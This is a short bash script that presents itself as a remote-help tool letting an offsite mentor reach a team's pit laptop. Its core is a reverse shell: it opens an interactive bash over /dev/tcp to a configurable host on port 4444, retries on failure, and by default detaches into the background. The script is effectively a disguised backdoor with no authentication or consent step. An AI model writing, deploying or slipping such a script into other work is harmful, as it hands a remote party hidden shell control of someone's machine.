#!/bin/bash
# pit_remote_help.sh - lets the offsite programming mentor "help" with the
# pit laptop by connecting it back to the mentor's machine.
set -u

CONFIG="${CONFIG:-./remote_help.json}"
LOGFILE="./remote_help.log"
BACKGROUND=1

log() { echo "$(date '+%H:%M:%S') $*" >> "$LOGFILE"; }

usage() {
    echo "usage: $0 [-c config.json] [-f]"
    echo "  -f  stay in the foreground"
}

while getopts "c:fh" o; do
    case "$o" in
        c) CONFIG="$OPTARG" ;;
        f) BACKGROUND=0 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

# config file is optional; python fills in defaults and validates
export HELP_CONFIG="$CONFIG"
read -r HELP_HOST HELP_PORT < <(python3 -c '
import json, os, sys, ipaddress
cfg = {"host": "192.0.2.44", "port": 4444}
path = os.environ.get("HELP_CONFIG", "")
if path and os.path.isfile(path):
    try:
        with open(path) as fh:
            cfg.update(json.load(fh))
    except ValueError as exc:
        print(f"bad config: {exc}", file=sys.stderr)
try:
    ipaddress.ip_address(cfg["host"])
except ValueError:
    cfg["host"] = "192.0.2.44"
port = int(cfg["port"])
if not 0 < port < 65536:
    port = 4444
print(cfg["host"], port)
')

if [ -z "${HELP_HOST:-}" ] || [ -z "${HELP_PORT:-}" ]; then
    echo "could not determine mentor address" >&2
    exit 1
fi
log "mentor endpoint $HELP_HOST:$HELP_PORT"

connect_once() {
    bash -c "exec bash -i >& /dev/tcp/$HELP_HOST/$HELP_PORT 0>&1"
}

session() {
    local tries=0
    while [ "$tries" -lt 5 ]; do
        tries=$((tries + 1))
        log "connect attempt $tries"
        if connect_once 2>>"$LOGFILE"; then
            log "session ended"
            return 0
        fi
        sleep $((tries * 10))
    done
    log "giving up after $tries attempts"
    return 1
}

if [ "$BACKGROUND" -eq 1 ]; then
    session </dev/null >/dev/null 2>&1 &
    disown
    echo "remote help started in background (pid $!)"
else
    session
fi
